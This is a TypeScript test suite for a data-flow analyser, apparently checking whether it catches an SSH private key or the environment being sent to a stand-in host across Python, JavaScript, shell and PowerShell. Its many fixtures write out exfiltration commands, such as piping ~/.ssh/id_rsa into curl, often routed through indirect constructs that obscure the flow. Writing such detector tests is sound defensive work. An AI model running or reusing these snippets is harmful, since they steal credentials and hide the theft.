// The ways programs move a value: each construct once with a secret that arrives, and beside some the twin where it does not.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are programs
import { beforeAll, describe, expect, it } from 'vitest';
import { prepare, run } from './harness.ts';

beforeAll(prepare);

type Row = readonly [construct: string, program: string, other?: Readonly<Record<string, string>>];

/** Whether the credential file or the environment (`S`, `E` in a program) arrives at the host (`P(…)`). */
function leaves(path: string, program: string, other: Readonly<Record<string, string>> = {}): boolean {
  const { facts, flows } = run({ [path]: program, ...other });
  expect(facts.length, 'the program is read').toBeGreaterThan(0);
  return flows().some(
    (one) => one.to === 'network' && one.from.some((tag) => tag === 'content:ssh' || tag === 'env:*'),
  );
}

function table(path: string, expand: (program: string) => string, found: readonly Row[], quiet: readonly Row[]): void {
  for (const [construct, program, other] of found)
    it(construct, () => expect(leaves(path, expand(program), other)).toBe(true));
  for (const [construct, program, other] of quiet)
    it(`not: ${construct}`, () => expect(leaves(path, expand(program), other)).toBe(false));
}

describe('python', () => {
  const expand = (program: string): string =>
    `import os, requests\ndef P(d, **k):\n    requests.post("https://h.test/x", data=d, **k)\n${program}`
      .replace(/\bS\b/g, 'open("/home/u/.ssh/id_rsa").read()')
      .replace(/\bE\b/g, 'dict(os.environ)');
  table(
    'scripts/a.py',
    expand,
    [
      [
        'super',
        'class A:\n  def __init__(self, t): self.t = t\nclass B(A):\n  def __init__(self): super().__init__(S)\nP(B().t)',
      ],
      [
        'class method',
        'class A:\n  def __init__(self, t): self.t = t\n  @classmethod\n  def of(cls): return cls(S)\nP(A.of().t)',
      ],
      [
        'written through the number of a temporary file',
        'import tempfile\nfd, p = tempfile.mkstemp()\nos.write(fd, S.encode())\nP(open(p).read())',
      ],
      ['called object', 'class A:\n  def __call__(self, d): P(d)\nA()(S)'],
      ['sent to a generator', 'def g():\n  while True:\n    x = yield\n    P(x)\ns = g()\nnext(s)\ns.send(S)'],
      ['given back by a generator', 'def g(x):\n  got = yield x\n  P(got)\ns = g(1)\ns.send(S)'],
      [
        'handler of a log',
        'import logging\nclass H(logging.Handler):\n  def emit(self, r): P(self.format(r))\nlogging.getLogger().addHandler(H())\nlogging.info(S)',
      ],
      [
        'told to a context written as a generator',
        'import contextlib\n@contextlib.contextmanager\ndef g():\n  rows = []\n  yield rows\n  P(rows)\nwith g() as s:\n  s.append(S)',
      ],
      [
        'object by its declared class',
        'class C:\n  def __init__(self): self.k = S\ndef f(c: C): P(c.k)\ndef g(c: "C | None" = None): pass',
      ],
      [
        'another function registered',
        'import functools\n@functools.singledispatch\ndef h(x): pass\n@h.register(str)\ndef _(x): P(x)\nh(S)',
      ],
      ['attributes as a mapping', 'class A: pass\na = A()\na.__dict__.update(k=S)\nP(a.k)'],
      ['told to the base', 'class B:\n  def __init_subclass__(cls, k=None): P(k)\nclass A(B, k=S): pass'],
      [
        'told to the class of classes',
        'class M(type):\n  def __new__(m, n, b, d):\n    P(d["k"])\n    return super().__new__(m, n, b, d)\nclass A(metaclass=M):\n  k = S',
      ],
      ['indexed object', 'class A:\n  def __getitem__(self, k): return S\nP(A()["x"])'],
      ['object gone through', 'class A:\n  def __iter__(self):\n    yield S\nP([x for x in A()])'],
      ['object as text', 'class A:\n  def __str__(self): return S\nP(f"{A()}")'],
      ['any attribute', 'class A:\n  def __getattr__(self, n): return S\nP(A().x)'],
      ['descriptor', 'class D:\n  def __get__(self, o, t=None): return S\nclass A:\n  d = D()\nP(A().d)'],
      ['setter', 'class A:\n  @property\n  def v(self): return 1\n  @v.setter\n  def v(self, x): P(x)\nA().v = S'],
      ['context', 'class A:\n  def __enter__(self): return S\n  def __exit__(self, *e): pass\nwith A() as t: P(t)'],
      [
        'decorator class',
        'class D:\n  def __init__(self, f): self.f = f\n  def __call__(self): P(self.f())\n@D\ndef g(): return S\ng()',
      ],
      ['fields by name', 'class A: pass\na = A()\na.t = S\nP(vars(a))'],
      ['record', 'from collections import namedtuple\nR = namedtuple("R", "a b")\nP(R("x", S).b)'],
      ['thrown', 'class X(Exception):\n  def __init__(self, t): self.t = t\ntry:\n  raise X(S)\nexcept X as e: P(e.t)'],
      ['one list, two names', 'a = []\nb = a\nb.append(S)\nP(a)'],
      ['list in a mapping', 'd = {}\nd.setdefault("k", []).append(S)\nP(d["k"])'],
      [
        'a record that is made when it is asked for',
        'from collections import defaultdict\nd = defaultdict(lambda: {"n": 0, "t": ""})\nfor x in os.listdir("."):\n  g = d[x]\n  g["n"] += 1\n  g["t"] = g["t"] or S\nn = len(d)\nP([g["t"] for k, g in sorted(d.items(), key=lambda kv: kv[1]["n"])[:n]])',
      ],
      [
        'a mapping under a name that is not known',
        'from collections import defaultdict\nd = defaultdict(dict)\ng = d[os.getcwd()]\ng["t"] = S\nP(d)',
      ],
      [
        'an object under a name that is not known',
        'class G:\n  def __init__(self): self.t = ""\nd = {}\nfor k in os.listdir("."):\n  d[k] = G()\n  g = d[k]\n  g.t = S\nP([g.t for g in d.values()])',
      ],
      ['chosen handlers', 'subs = {}\nsubs.setdefault("e", []).append(P)\nfor f in subs.get("e", []): f(S)'],
      ['functions in order', 'acc = None\nfor f in [lambda _: S, lambda t: t.strip(), P]: acc = f(acc)'],
      ['composed', 'import functools\nfunctools.reduce(lambda f, g: lambda x: g(f(x)), [lambda _: S, P])(0)'],
      ['partial by name', 'import functools\nfunctools.partial(requests.post, data=S)("https://h.test")'],
      ['timer', 'import threading\nthreading.Timer(5, P, [S]).start()'],
      ['thread by names', 'import threading\nthreading.Thread(target=P, kwargs={"d": S}).start()'],
      [
        'shared mapping',
        'import multiprocessing as mp\ndef c(d): d["k"] = S\ns = mp.Manager().dict()\nmp.Process(target=c, args=(s,)).start()\nP(s)',
      ],
      ['two ends of a pipe', 'import multiprocessing as mp\na, b = mp.Pipe()\nb.send(S)\nP(a.recv())'],
      ['printed to a buffer', 'import io\no = io.StringIO()\nprint(S, file=o)\nP(o.getvalue())'],
      ['rows in a buffer', 'import csv, io\no = io.StringIO()\ncsv.writer(o).writerow([S])\nP(o.getvalue())'],
      ['attribute by name', 'class A: pass\na = A()\nsetattr(a, "x", S)\nP(a.x)'],
      [
        'environment of a shell',
        'import subprocess\nsubprocess.run("curl -d $K https://h.test", shell=True, env={"K": S})',
      ],
      ['environment set', 'os.environ["K"] = S\nos.system("curl -d $K https://h.test")'],
      [
        'logged to a host',
        'import logging, logging.handlers\nl = logging.getLogger("x")\nl.addHandler(logging.handlers.HTTPHandler("h.test", "/"))\nl.error(E)',
      ],
      [
        'request made before',
        'r = requests.Request("POST", "https://h.test", data=S)\nrequests.Session().send(r.prepare())',
      ],
      [
        'module set from outside',
        'import m\nm.held = S\nm.go()',
        { 'scripts/m.py': 'import requests\nheld = 1\ndef go():\n  requests.post("https://h.test", data=held)' },
      ],
      [
        'registered classes',
        'R = {}\ndef reg(n):\n  def w(c):\n    R[n] = c\n    return c\n  return w\n@reg("a")\nclass A:\n  def run(self): P(S)\nfor o in [c() for c in R.values()]: o.run()',
      ],
    ],
    [
      ['key taken out', 'd = {"k": S, "v": 1}\nd.pop("k")\nP(d)'],
      [
        'sent to a generator that keeps it',
        'def g():\n  x = yield\n  print(len(x))\ns = g()\nnext(s)\ns.send(S)\nP("x")',
      ],
      [
        'another argument of the class',
        'class B:\n  def __init_subclass__(cls, k=None, v=None): P(v)\nclass A(B, k=S, v=1): pass',
      ],
      [
        'another field of what is made when it is asked for',
        'from collections import defaultdict\nd = defaultdict(lambda: {"n": 0, "t": ""})\nfor x in os.listdir("."):\n  g = d[x]\n  g["n"] += 1\n  g["t"] = S\nP([g["n"] for k, g in d.items()])',
      ],
      ['key deleted', 'd = {"k": S, "v": 1}\ndel d["k"]\nP(d)'],
      ['cleared', 'd = {"k": S}\nd.clear()\nP(d)'],
      ['other field of a record', 'from collections import namedtuple\nR = namedtuple("R", "a b")\nP(R("x", S).a)'],
      ['other result', 'import asyncio\nasync def m():\n  a, b = await asyncio.gather(S, 1)\n  P(b)'],
      ['other column', 'P(dict(zip(["k", "v"], [S, 1]))["v"])'],
      ['other part of a match', 'match {"t": S, "n": 1}:\n  case {"n": v}: P(v)'],
      ['a copied list', 'a = []\nb = list(a)\nb.append(S)\nP(a)'],
      [
        'told to another context',
        'import contextlib\n@contextlib.contextmanager\ndef g():\n  rows, others = [], []\n  yield rows\n  P(others)\nwith g() as s:\n  s.append(S)',
      ],
      [
        'another field of an object by its declared class',
        'class C:\n  def __init__(self):\n    self.k = S\n    self.v = 1\ndef f(c: C): P(c.v)',
      ],
      [
        'digests kept in a mapping',
        'import hashlib\nh = {"a": hashlib.md5()}\nfor x in h.values(): x.update(S)\nP({k: v.hexdigest() for k, v in h.items()})',
      ],
      ['another pipe', 'import queue\na, b = queue.Queue(), queue.Queue()\na.put(S)\nb.put(1)\nP(b.get())'],
    ],
  );
});

describe('javascript', () => {
  const expand = (program: string): string =>
    `const fs = require('fs'); const P = (b) => fetch('https://h.test/x', { method: 'POST', body: b });\n${program}`
      .replace(/\bS\b/g, "fs.readFileSync('/home/u/.ssh/id_rsa', 'utf8')")
      .replace(/\bE\b/g, 'process.env');
  table(
    'scripts/a.js',
    expand,
    [
      [
        'super',
        'class A { constructor(t) { this.t = t } } class B extends A { constructor() { super(S) } } P(new B().t)',
      ],
      [
        'method of the base',
        'class A { d() { return S } } class B extends A { d() { return super.d() } } P(new B().d())',
      ],
      ['prototype', 'function C() { this.t = S } C.prototype.go = function () { P(this.t) }; new C().go()'],
      ['static block', 'class C { static t; static { this.t = S } } P(C.t)'],
      ['setter', 'class C { set v(x) { P(x) } } new C().v = S'],
      ['sent to a generator', 'function* g() { const v = yield; P(v) } const s = g(); s.next(); s.next(S)'],
      ['read through', 'P(new Proxy({}, { get: (t, k) => S }).x)'],
      ['set through', 'const p = new Proxy({}, { set(t, k, v) { P(v); return true } }); p.x = S'],
      ['called through', 'const p = new Proxy(() => 0, { apply: (f, self, args) => P(args[0]) }); p(S)'],
      ['tagged text', 'const t = (s, ...v) => P(v[0]); t`x${S}`'],
      ['applied by name', "Reflect.apply(P, null, [Reflect.apply(fs.readFileSync, fs, ['/home/u/.ssh/id_rsa'])])"],
      ['iterator', 'class C { *[Symbol.iterator]() { yield S } } P([...new C()])'],
      ['thrown', 'try { throw new Error(S) } catch (e) { P(e.message) }'],
      [
        'thrown, taken apart',
        'class X extends Error { constructor(t) { super(); this.t = t } } try { throw new X(S) } catch ({ t }) { P(t) }',
      ],
      ['events', "const b = new (require('events'))(); b.on('k', P); b.emit('k', S)"],
      ['events, other order', "const b = new (require('events'))(); b.emit('k', S); b.on('k', P)"],
      [
        'messages',
        "const { Worker } = require('worker_threads'); new Worker('./scripts/w.js').postMessage(S)",
        {
          'scripts/w.js':
            "require('worker_threads').parentPort.on('message', (m) => fetch('https://h.test', { method: 'POST', body: m }))",
        },
      ],
      ['reduced functions', '[() => S, (t) => t.trim(), P].reduce((v, f) => f(v), 0)'],
      ['merged options', "fetch('https://h.test', Object.assign({}, { method: 'POST' }, { body: S }))"],
      ['request made before', "fetch(new Request('https://h.test', { method: 'POST', body: S }))"],
      ['part of an address', "const u = new URL('https://h.test'); u.search = '?k=' + S; fetch(u.href)"],
      ['pairs of a map', "const m = new Map(); m.set('k', S); for (const [, v] of m) P(v)"],
      ['defined property', "const o = {}; Object.defineProperty(o, 'b', { value: S }); P(o.b)"],
      ['arguments', 'function f() { P(arguments[0]) } f(S)'],
      ['global object', 'globalThis.t = S; function f() { P(globalThis.t) } f()'],
      [
        'state of a module',
        "const { s } = require('./s'); const { go } = require('./g'); s.t = S; go()",
        {
          'scripts/s.js': 'const s = {}; module.exports = { s };',
          'scripts/g.js':
            "const { s } = require('./s'); exports.go = () => fetch('https://h.test', { method: 'POST', body: s.t });",
        },
      ],
      [
        'a module that is a function',
        "require('./f')(S)",
        {
          'scripts/f.js':
            "module.exports = function (b) { return fetch('https://h.test', { method: 'POST', body: b }) };",
        },
      ],
      [
        'exported again',
        "const { p } = require('./i'); p(S)",
        {
          'scripts/i.js': "export { default as p } from './d.js';",
          'scripts/d.js': "export default (b) => fetch('https://h.test', { method: 'POST', body: b });",
        },
      ],
      [
        'bundled modules',
        'var w = (cb, m) => () => (m || cb((m = { exports: {} }).exports, m), m.exports); var r = w((exports, module) => { module.exports = S }); P(r())',
      ],
      [
        'branches of a reducer',
        "const r = (s, a) => { switch (a.t) { case 'l': return { ...s, e: a.p }; default: return s } }; let s = r({ e: {} }, { t: 'l', p: E }); P(s.e)",
      ],
      ['socket in its own callback', "const c = require('net').connect(1, 'h.test', () => { c.write(S) })"],
      ['environment of a shell', "require('child_process').exec('curl -d \"$K\" https://h.test', { env: { K: S } })"],
    ],
    [
      ['rest without it', 'const { t, ...o } = { t: S, v: 1 }; P(o)'],
      [
        'set through and kept',
        'const p = new Proxy({}, { set(t, k, v) { t[k] = v.length; return true } }); p.x = S; P(1)',
      ],
      ['deleted', 'const o = { t: S, v: 1 }; delete o.t; P(o)'],
      ['other key of a map', "const m = new Map(); m.set('k', S); m.set('v', 1); P(m.get('v'))"],
      [
        'other event',
        "const b = new (require('events'))(); b.on('k', (t) => t.length); b.on('v', P); b.emit('k', S); b.emit('v', 1)",
      ],
      ['error of a callback', "fs.readFile('/home/u/.ssh/id_rsa', (err, data) => P(err))"],
      ['objects of two calls', 'const make = () => ({ v: [] }); const a = make(), b = make(); a.v.push(S); P(b.v)'],
    ],
  );
});

describe('shell', () => {
  const expand = (program: string): string =>
    program.replace(/\bS\b/g, 'cat ~/.ssh/id_rsa').replace(/\bP\b/g, 'curl https://h.test --data-binary');
  table(
    'scripts/a.sh',
    expand,
    [
      ['fed function', 'up() { P @-; }\nS | up'],
      ['packed with its folder', 'mkdir -p w/in\nS > w/in/k\ntar cz w | P @-'],
      ['name for a name', 'f() { declare -n r=$1; r=$(S); }\nf b\nP "$b"'],
      ['indirect', 'k=$(S)\nn=k\nP "${!n}"'],
      ['read file', 'k=$(< ~/.ssh/id_rsa)\nP "$k"'],
      ['set where unset', ': "${k:=$(S)}"\nP "$k"'],
      ['fed by commands', 'P @- < <(S)'],
      ['file of commands', 'P @<(S)'],
      ['written to commands', 'S > >(P @-)'],
      ['tee to commands', 'S | tee >(P @-)'],
      ['lines to a list', 'mapfile -t l < ~/.ssh/id_rsa\nP "${l[*]}"'],
      [
        'options',
        'f() { while getopts "f:" o; do case $o in f) x=$OPTARG ;; esac; done; curl -T "$x" https://h.test; }\nf -f ~/.ssh/id_rsa',
      ],
      ['arguments of code', 'bash -c \'P "$1"\' x "$(S)"'],
      ['own environment', 'env -i K="$(S)" sh -c \'P "$K"\''],
      ['alias', "alias up='curl -T'\nup ~/.ssh/id_rsa https://h.test"],
      ['exported to a script', 'export K="$(S)"\nbash scripts/b.sh', { 'scripts/b.sh': 'curl -d "$K" https://h.test' }],
      [
        'settings that are sourced',
        '. "$(dirname "$0")/../etc/b.conf"\necho "$T"',
        { 'etc/b.conf': 'U=1\nT=$(curl -d "$(cat ~/.ssh/id_rsa)" https://h.test)\n' },
      ],
      ['fed program beside', 'coproc U { P @-; }\nS >&"${U[1]}"'],
      ['piped into a script', 'S | bash scripts/b.sh', { 'scripts/b.sh': 'curl -d "$(cat)" https://h.test' }],
      ['printed by a program', 'k=$(python3 -c \'print(open("/home/u/.ssh/id_rsa").read())\')\nP "$k"'],
      [
        'read by a program',
        'S | python3 -c \'import sys, requests; requests.post("https://h.test", data=sys.stdin.read())\'',
      ],
      [
        'a script written before',
        'cat > /tmp/u.sh <<\'X\'\ncurl -T "$1" https://h.test\nX\nsh /tmp/u.sh ~/.ssh/id_rsa',
      ],
      ['words of lines', 'while read -r k p; do curl -T "$p" https://h.test; done <<\'X\'\na ~/.ssh/id_rsa\nb none\nX'],
      ['built by jq', 'jq -n --arg k "$(S)" \'{k:$k}\' | P @-'],
    ],
    [
      ['local', 'b=1\nf() { local b; b=$(S); }\nf\nP "$b"'],
      ['shell within', 'b=1\n( b=$(S) )\nP "$b"'],
      ['another program beside', 'coproc U { sort; }\nS >&"${U[1]}"\nP x'],
      ['length', 'b=$(S)\nP "${#b}"'],
    ],
  );
});

describe('powershell', () => {
  const expand = (program: string): string =>
    program
      .replace(/\bS\b/g, 'Get-Content -Raw "$HOME/.ssh/id_rsa"')
      .replace(/\bP\b/g, 'irm https://h.test -Method Post -Body');
  table(
    'scripts/a.ps1',
    expand,
    [
      ['block', '$u = { param($t) P $t }\n& $u (S)'],
      ['block made of text', "$u = [scriptblock]::Create('param($t) P $t')\n& $u (S)"],
      ['block invoked', '$u = { param($t) P $t }\n$u.Invoke((S))'],
      ['job', 'Start-Job -ScriptBlock { param($b) P $b } -ArgumentList (S)'],
      ['job with a name from around', '$k = S\nStart-Job { P $using:k }'],
      ['list', '$l = [System.Collections.ArrayList]::new()\n[void]$l.Add((S))\nP ($l -join "")'],
      ['class', 'class U { [string]$B; U([string]$b) { $this.B = $b } [void] Go() { P $this.B } }\n[U]::new((S)).Go()'],
      ['static method', 'class K { static [string] Get() { return S } }\nP ([K]::Get())'],
      [
        'stream',
        '$c = [Net.Sockets.TcpClient]::new("h.test", 1)\n$w = [IO.StreamWriter]::new($c.GetStream())\n$w.WriteLine((S))',
      ],
      ['case', 'switch ($x) { 1 { $p = "a" } default { $p = "$HOME/.ssh/id_rsa" } }\nP (Get-Content -Raw $p)'],
      ['kept on the way', 'S | Set-Variable k\nP $k'],
      ['thrown', 'try { throw (S) } catch { P $_.Exception.Message }'],
    ],
    [
      ['name of a function', '$k = 1\nfunction F { $k = S }\nF | Out-Null\nP $k'],
      ['count', '$n = (Get-ChildItem env:).Count\nP $n'],
      ['other property', 'class K { [string]$A; [string]$B; K() { $this.A = (S); $this.B = "1" } }\nP ([K]::new()).B'],
    ],
  );
});

describe('cost', () => {
  it('objects that hold one another, events that raise themselves and lists within lists have an end', () => {
    const programs = [
      [
        'a.py',
        `import requests\nclass A:\n  def __iter__(self): yield from self\n  def __str__(self): return str(self)\n  def __getattr__(self, n): return getattr(self, n + "x")\na = A()\na.a = a\nrequests.post("https://h.test", data=f"{a}{a.q}", json=[a, list(a)])`,
      ],
      [
        'a.js',
        "const b = new (require('events'))(); b.on('x', (d) => { b.emit('x', d + process.env.A_KEY); b.on('x', () => b.emit('x', d)); }); b.emit('x', process.env);",
      ],
      ['b.py', `d = {}\n${'d.setdefault("k", []).append(d)\n'.repeat(300)}print(d)`],
      [
        'b.js',
        `let o = {}; ${'o = Math.random() > 0.5 ? { a: o, b: o } : { a: 1, b: o };'.repeat(200)} fetch('https://h.test', { method: 'POST', body: JSON.stringify(o) });`,
      ],
    ] as const;
    for (const [path, program] of programs) expect(run({ [path]: program }).ms, path).toBeLessThan(8_000);
  });
});
